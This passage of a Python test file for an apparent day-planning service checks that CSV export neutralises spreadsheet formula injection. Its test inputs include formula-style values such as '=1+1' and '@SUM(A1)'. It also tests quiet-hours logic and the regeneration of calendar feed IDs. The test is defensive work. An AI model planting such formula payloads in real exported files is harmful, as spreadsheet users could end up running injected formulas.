    assert [(p["answer_text"], p["note"]) for p in prompts] == [
        ("'" + evil, "'+1 tired"),
        ("", "'\tnote"),
    ]
    assert prompts[0]["response_latency_s"] == "60.5"
    assert (answer["label"], answer["choice"]) == ("'@SUM(A1)", "'-2+3")
    assert (answer["anchor_low"], answer["anchor_high"]) == ("'-low", "'\rhigh")
    assert answer["value"] == "-3"  # a number, untouched
    # the one cell rule of the other CSVs: text neutralised, numbers as they are
    assert [csv_cell(v) for v in ("=1+1", "-x", -1.5, -2, "a=b", None)] == [
        "'=1+1",
        "'-x",
        "-1.5",
        "-2",
        "a=b",
        "",
    ]


def test_the_plan_names_interventions_in_quiet_hours(clocked: tuple[Server, SetClock]) -> None:
    """The review: with quiet hours 12:00-13:00 the 12:30 reset never fires, yet the Working day
    card showed it switched on like the others; the plan now names it."""
    server, _ = clocked
    with server.client() as c:
        plan = c.get("/api/v1/dayplan").json()
        assert plan["in_quiet_hours"] == []
        quiet = [{"start": "22:00", "end": "07:00"}, {"start": "12:00", "end": "13:00"}]
        r = c.put("/api/v1/dayplan", json={**plan, "quiet_hours": quiet})
        assert r.status_code == 200, r.text
        # the 12:30 reset is; the 10:00-12:00 random check-in, partly before 12:00, is not
        assert r.json()["in_quiet_hours"] == ["reset-lunch"]
        assert c.get("/api/v1/dayplan").json()["in_quiet_hours"] == ["reset-lunch"]


@pytest.mark.parametrize("stored", [12345, "", None, ["x"]])
def test_an_unusable_stored_calendar_id_is_replaced(
    clocked: tuple[Server, SetClock], stored: Any
) -> None:
    """The code review: a stored ``calendar_install_id`` that is not a non-empty string made
    every feed a 500 for good; it is replaced, as an unusable feed token is."""
    server, _ = clocked
    written = server.app.state.storage.put_value(
        "settings", CALENDAR_ID_KEY, stored, updated_at=1.7e9
    )
    written.result(timeout=30)
    uids = {str(e["uid"]) for e in _feed(server).walk("VEVENT")}
    assert uids
    (install_id,) = {u.rsplit("@", 1)[0].rsplit(".", 1)[1] for u in uids}
    assert install_id and install_id != str(stored)
    assert {str(e["uid"]) for e in _feed(server).walk("VEVENT")} == uids  # stable again


@pytest.mark.parametrize(
    ("quiet_end", "always"),
    [("12:29:30", False), ("12:30", True), ("12:29:59.5", True)],
)
def test_a_random_window_is_in_quiet_hours_only_to_the_second(
    clocked: tuple[Server, SetClock], quiet_end: str, always: bool
) -> None:
    """The code review: whole minutes were compared, so quiet hours ending 12:29:30 labelled a
    12:00-12:30 random check-in never sent, though a draw in its last 30 s is sent. Draws are
    whole seconds: quiet to 12:29:59.5 holds every one of them."""
    server, _ = clocked
    with server.client() as c:
        plan = c.get("/api/v1/dayplan").json()
        items = [{"id": "noon", "kind": "checkin", "start": "12:00", "end": "12:30"}]
        items[0]["randomised"] = True
        quiet = [{"start": "22:00", "end": "07:00"}, {"start": "12:00", "end": quiet_end}]
        r = c.put("/api/v1/dayplan", json={**plan, "interventions": items, "quiet_hours": quiet})
        assert r.status_code == 200, r.text
    assert r.json()["in_quiet_hours"] == (["noon"] if always else [])
